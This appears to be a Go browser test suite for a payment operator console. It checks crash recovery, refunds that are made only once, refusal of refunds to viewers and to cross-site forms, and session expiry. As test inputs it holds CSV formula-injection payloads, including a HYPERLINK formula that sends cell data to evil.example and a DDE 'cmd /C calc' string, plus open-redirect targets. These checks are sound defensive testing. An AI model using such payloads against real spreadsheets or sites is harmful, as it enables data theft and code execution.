package browser

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/oncepay/oncepay/internal/pgtest"
	"github.com/oncepay/oncepay/test/harness"
)

// comesBack starts the installation again where it was, both listeners.
func (s *stage) comesBack() {
	s.t.Helper()
	s.start(s.dev.DataDir, "--listen", strings.TrimPrefix(s.dev.Info.BaseURL, "http://"), "--admin-listen", strings.TrimPrefix(s.dev.Info.AdminURL, "http://"))
}

// crashes makes a payment during which the process dies: the provider has booked it, nobody
// here knows, and a duplicate was told to wait. The process comes back, and so does the
// client: with the same request, and with another amount.
func (s *stage) crashes() harness.Payment {
	s.t.Helper()
	ctx := s.t.Context()
	p := harness.NewPayment("Two cups")
	p.Nonce, p.OrderID = "order-1042/attempt-1", "order-1042" // the ledger is this stage's alone
	booked, answer := s.door.HoldAnswer(p.OrderID)
	first := make(chan harness.Answer, 1)
	go func() { first <- s.api.Pay(ctx, p) }()
	await(s.t, "the provider has booked", booked)
	mustBe(s.t, s.api.Pay(ctx, p), http.StatusConflict)
	s.hears(p.Nonce, "the duplicate is written down", func(l harness.Life) bool { return l.Count("request") > 0 })
	s.killed()
	answer() // to nobody
	if a := <-first; a.Err == nil {
		s.t.Fatalf("a process that was killed answered: %s", a)
	}
	s.comesBack()
	s.hears(p.Nonce, "the payment is recovered", func(l harness.Life) bool { return l.KeyState == "answered" })
	other := p
	other.Value = "99.99"
	for _, again := range []harness.Payment{p, other} {
		a := s.api.Pay(ctx, again)
		if mustBe(s.t, a, http.StatusCreated); !a.Replayed() {
			s.t.Errorf("a retry was not answered again: %s", a)
		}
	}
	s.dev.Info.Ledger().MustHave(s.t, p, 1)
	s.hears(p.Nonce, "the retries are written down", func(l harness.Life) bool { return l.Count("request") >= 3 })
	return p
}

// hears asks what became of a nonce until something holds of its newest life.
func (s *stage) hears(nonce, what string, holds func(harness.Life) bool) {
	s.t.Helper()
	harness.Eventually(s.t, harness.Patience, what, func() bool {
		lives, err := s.api.Lives(s.t.Context(), nonce)
		return err == nil && len(lives) > 0 && holds(lives[0])
	})
}

// TestFromTheSetUpLinkToTheNonceThatCrashed: the installation is new, its first operator comes
// in by the link that the start has printed, a payment is cut short by kill -9, and a minute
// later support pastes its nonce.
func TestFromTheSetUpLinkToTheNonceThatCrashed(t *testing.T) {
	t.Parallel()
	s := newHeldStage(t, soon...)
	link := s.setUpLink()
	d := s.signsUp(link, "ada")
	d.open("/unsettled")
	p := s.crashes()
	if setUp.MatchString(s.dev.Stdout()) {
		t.Error("there is an operator, and the start prints a set-up link")
	}
	late := newTab(t)
	late.goTo(link)
	if eval[bool](late, `!!document.querySelector("main form")`) {
		t.Errorf("the set-up link works twice: %s", late.text())
	}
	// The session is in the database, so it outlived the process.
	d.leads(func() { d.do(chromedp.Reload()) })
	d.isIn()
	d.slash()
	d.until("the search has the focus", `document.activeElement.id === "search"`)
	d.pastes(p.Nonce)
	d.leads(func() { d.do(chromedp.KeyEvent("\r")) })
	if got := eval[string](d.tab, `location.pathname`); got != "/nonces/"+url.PathEscape(p.Nonce) {
		t.Fatalf("the search led to %s: %s", got, d.text())
	}
	d.must("Charged once: 45.67 USD", "Done once", "Taken. A retry gets the first answer again.")
	if !eval[bool](d.tab, `document.querySelector("article.life").classList.contains("good")`) {
		t.Error("the verdict is not green")
	}
	picture := eval[string](d.tab, `[...document.querySelectorAll(".lanes-wide text")].map(e => e.textContent).join("\n")`)
	for _, words := range []string{"409 in process", "takes over", "by recovery", "201, replayed", "another body"} {
		if !strings.Contains(picture, words) {
			t.Errorf("the picture does not say %q:\n%s", words, picture)
		}
	}
	for _, shape := range []string{"break", "diamond"} {
		if eval[int](d.tab, `document.querySelectorAll(".lanes-wide .mark.`+shape+`").length`) == 0 {
			t.Errorf("the picture has no %s", shape)
		}
	}
	d.eachMarkOpensItsFacts()
	d.opens("another body")
	d.must("Members that differ\namount")
	d.presses(`a[href*="print"]`)
	d.must("Made by ada on", "Charged once: 45.67 USD", "Members that differ\namount")
}

// eachMarkOpensItsFacts follows every link of the picture.
func (d *desk) eachMarkOpensItsFacts() {
	d.t.Helper()
	closed := eval[[]string](d.tab, `(async () => {
		const closed = [], links = [...document.querySelectorAll(".lanes-wide a[href^='#']")];
		if (!links.length) return ["there is no mark"];
		for (const link of links) {
			const there = document.getElementById(decodeURIComponent(link.getAttribute("href").slice(1)));
			const moved = location.hash === link.getAttribute("href") ? null : new Promise(done => addEventListener("hashchange", done, {once: true}));
			link.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true, view: window}));
			await moved;
			if (!there?.open || !there.querySelector("dl, ol")) closed.push(link.getAttribute("href"));
		}
		return closed;
	})()`)
	if len(closed) > 0 {
		d.t.Errorf("these marks open no facts: %q", closed)
	}
}

// opens opens the moment whose line has some words.
func (d *desk) opens(words string) {
	d.t.Helper()
	if !eval[bool](d.tab, fmt.Sprintf(`(() => {
		const found = [...document.querySelectorAll("details.moment")].find(e => e.querySelector("summary").textContent.includes(%q));
		if (found) found.open = true;
		return !!found;
	})()`, words)) {
		d.t.Errorf("no moment says %q", words)
	}
}

// refundForm is where a refund is ordered.
const refundForm = `main form[action$="/refund"]`

// asks is what somebody fills in for a refund of ten dollars.
func asks(password string) map[string]string {
	return map[string]string{"amount": "10.00", "reason": "REQUESTED_BY_CUSTOMER", "password": password}
}

// TestAnOperatorsRefundIsMadeOnce: a form is one refund, however often and from wherever it
// is sent.
func TestAnOperatorsRefundIsMadeOnce(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	s.signsUp(s.setUpLink(), "ada")
	p := s.buysCups("order-1", nil)
	d := s.colleague("olga", "operator")
	booked := func(what string, want int) {
		t.Helper()
		if got := s.refundsOf(p.Order); got != want {
			t.Fatalf("%s: the provider has booked %d refunds, not %d", what, got, want)
		}
	}
	d.open("/payments/" + p.ID)
	d.fills(refundForm, asks("not the password of olga"))
	d.sends(refundForm)
	d.must("password")
	booked("a wrong password", 0)

	d.open("/payments/" + p.ID)
	d.fills(refundForm, asks(deskPassword))
	d.leads(func() {
		eval[bool](d.tab, fmt.Sprintf(`(() => { const button = document.querySelector(%q); button.click(); button.click(); return true })()`, refundForm+" button"))
	})
	d.must("10.00 USD", "What became of its nonce")
	booked("two clicks", 1)

	d.open("/payments/" + p.ID)
	twin := d.beside()
	twin.open("/payments/" + p.ID)
	twin.fills(refundForm, map[string]string{"nonce": eval[string](d.tab, fmt.Sprintf(`document.querySelector(%q).elements.nonce.value`, refundForm))})
	for _, tab := range []*desk{d, twin} {
		tab.fills(refundForm, asks(deskPassword))
	}
	for _, tab := range []*desk{d, twin} {
		eval[bool](tab.tab, fmt.Sprintf(`(document.querySelector(%q).requestSubmit(), true)`, refundForm))
	}
	for _, tab := range []*desk{d, twin} {
		tab.until("the page says what became of it", `document.querySelector("main [role=status] a[href^='/nonces/']")`)
	}
	booked("one form in two tabs", 2)

	d.open("/payments/" + p.ID)
	d.fills(refundForm, asks(deskPassword))
	eval[bool](d.tab, fmt.Sprintf(`(async () => {
		const form = document.querySelector(%q), body = new URLSearchParams(new FormData(form));
		await Promise.all(Array.from({length: 5}, () => fetch(form.action, {method: "POST", body, redirect: "manual"})));
		return true;
	})()`, refundForm))
	booked("one form sent five times at once", 3)
}

// TestWhoMayNotRefundDoesNot: neither with the page's own forms, which are not there, nor
// with a request that they have made up, nor from a page of another site.
func TestWhoMayNotRefundDoesNot(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	s.signsUp(s.setUpLink(), "ada")
	p := s.buysCups("order-1", nil)
	d, v := s.colleague("olga", "operator"), s.colleague("vera", "viewer")
	d.open("/payments/" + p.ID)
	d.fills(refundForm, asks(deskPassword))
	sent := eval[map[string]string](d.tab, fmt.Sprintf(`Object.fromEntries(new FormData(document.querySelector(%q)))`, refundForm))

	v.open("/payments/" + p.ID)
	if n := eval[int](v.tab, `document.querySelectorAll("main form, main input").length`); n != 0 {
		t.Errorf("a viewer sees %d forms and fields", n)
	}
	status := eval[int](v.tab, fmt.Sprintf(`fetch(location.pathname + "/refund", {method: "POST", body: new URLSearchParams(%s), redirect: "manual"}).then(r => r.status)`, inJSON(t, sent)))
	if status != http.StatusForbidden {
		t.Errorf("a viewer's refund is answered %d", status)
	}
	if said := v.forgive(); len(said) != 1 || !strings.Contains(said[0], "403") { // the one that the test has asked for
		t.Errorf("a viewer's page %q", said)
	}

	other := newSite(t)
	var fields strings.Builder
	for name, value := range sent {
		fmt.Fprintf(&fields, `<input name=%q value=%q>`, name, value)
	}
	other.shows(`<!doctype html><title>Win a cup</title><form method=post action="` + s.at("/payments/"+p.ID+"/refund") + `">` + fields.String() + `<button>Win</button></form>`)
	for _, host := range []string{"127.0.0.1", "localhost"} { // the same host on another port, and another host
		b := d.another()
		b.goTo(strings.Replace(other.URL, "127.0.0.1", host, 1))
		b.presses("button")
		b.must("You may not do this")
	}
	if n := s.refundsOf(p.Order); n != 0 {
		t.Errorf("the provider has booked %d refunds", n)
	}
}

// row is a script that says whether the list shows an order.
func row(order string) string {
	return fmt.Sprintf(`[...document.querySelectorAll("#payments td.order")].some(e => e.textContent === %q)`, order)
}

// TestTheListOfPaymentsIsLive: what is paid meanwhile appears, unless somebody wants to read.
func TestTheListOfPaymentsIsLive(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	d := s.signsUp(s.setUpLink(), "ada")
	s.buysCups("order-1", nil)
	d.open("/payments")
	call(d.tab, page.BringToFront, cdp.Empty{})
	d.until("the list", row("order-1"))
	focused := eval[string](d.tab, `(() => { const link = document.querySelector("#payments td a"); link.focus(); return link.id })()`)
	s.buysCups("order-2", nil)
	d.until("a new payment is in the list", row("order-2")+` && document.querySelector("#payments tr.new")`)
	if got := eval[string](d.tab, `document.activeElement.id`); got != focused {
		t.Errorf("the focus went from %s to %q", focused, got)
	}
	d.do(chromedp.Click(css("[data-pause]")))
	eval[bool](d.tab, `(() => {
		window.held = 0;
		document.addEventListener("htmx:beforeRequest", (event) => { if (event.defaultPrevented) held++; });
		return true;
	})()`)
	s.buysCups("order-3", nil)
	d.until("the list was to be refreshed, and was not", `window.held >= 2`)
	if eval[bool](d.tab, row("order-3")) {
		t.Error("a list that is paused goes on")
	}
	d.do(chromedp.Click(css("[data-pause]")))
	d.until("the list goes on", row("order-3"))
}

// TestTheFileForASpreadsheetHasNoFormula: a merchant's text stays a text.
func TestTheFileForASpreadsheetHasNoFormula(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	d := s.signsUp(s.setUpLink(), "ada")
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"Sum")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", " =1+1", "＝1+1"}
	for _, order := range hostile {
		s.buysCups(order, nil)
	}
	d.open("/payments")
	link := eval[string](d.tab, `[...document.querySelectorAll("main a.button")].find(e => e.textContent === "CSV").getAttribute("href")`)
	text := eval[string](d.tab, fmt.Sprintf(`fetch(%q).then(async r => r.headers.get("content-disposition") + "\n" + await r.text())`, link))
	disposition, file, _ := strings.Cut(text, "\n")
	if !strings.HasPrefix(disposition, "attachment; ") {
		t.Errorf("the file is sent with %q", disposition)
	}
	rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(rows) != 1+len(hostile) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if strings.ContainsAny(strings.TrimLeft(cell, " \t\"")+" ", "=+-@＝") && strings.IndexAny(strings.TrimLeft(cell, " \t\""), "=+-@＝") == 0 {
				t.Errorf("a cell begins a formula: %q", cell)
			}
		}
	}
	for _, order := range hostile {
		if !slices.ContainsFunc(rows, func(row []string) bool { return slices.Contains(row, "'"+order) }) {
			t.Errorf("the file does not have %q", order)
		}
	}
}

// TestASessionEnds by signing out and by itself, and then nothing more is shown; whoever
// comes back is where they wanted to go.
func TestASessionEnds(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	d := s.signsUp(s.setUpLink(), "ada")
	p := s.buysCups("order-1", nil)
	deep := "/payments?order=order-1&status=SUCCEEDED"
	d.open(deep)
	d.until("the payment", row(p.Order))
	if got := eval[string](d.tab, `fetch(location).then(r => r.headers.get("cache-control"))`); !strings.Contains(got, "no-store") {
		t.Errorf("a page may be kept: %q", got)
	}
	d.presses("header .who button")
	d.until("the sign-in", `location.pathname === "/sign-in"`)
	history := call(d.tab, page.GetNavigationHistory, cdp.Empty{})
	for _, entry := range slices.Backward(history.Entries[:history.CurrentIndex]) {
		if !strings.HasSuffix(entry.URL, deep) {
			continue
		}
		call(d.tab, page.NavigateToHistoryEntry, page.NavigateToHistoryEntryParams{EntryID: entry.ID})
		break
	}
	d.until("the way back ends at the sign-in", `location.pathname === "/sign-in" && new URLSearchParams(location.search).has("next")`)
	if text := eval[string](d.tab, `document.documentElement.textContent`); strings.Contains(text, p.ID) {
		t.Error("who has signed out sees a payment")
	}
	d.signsIn()
	d.until("the page that was asked for", `location.pathname + location.search === `+inJSON(t, deep))
	d.until("the payment", row(p.Order))

	// Half an hour without a click.
	if n := pgtest.Exec(t, s.database, `UPDATE operator_sessions SET seen_at = seen_at - interval '31 minutes' WHERE expires_at > $1`, "-infinity"); n == 0 {
		t.Fatal("there is no session")
	}
	d.until("the live list ends at the sign-in", `location.pathname === "/sign-in"`)
	d.open("/nonces/" + p.Nonce)
	d.signsIn()
	d.until("the nonce's page", `location.pathname === "/nonces/`+p.Nonce+`"`)
	d.must("Charged once")

	// Nobody is led to another site by the sign-in.
	for _, next := range []string{"https://evil.example/", `/\evil.example/`} {
		d.presses("header .who button")
		d.open("/sign-in?next=" + url.QueryEscape(next))
		d.signsIn()
		if got := eval[string](d.tab, `location.href`); got != s.at("/") {
			t.Errorf("with %q the sign-in leads to %s", next, got)
		}
	}
}
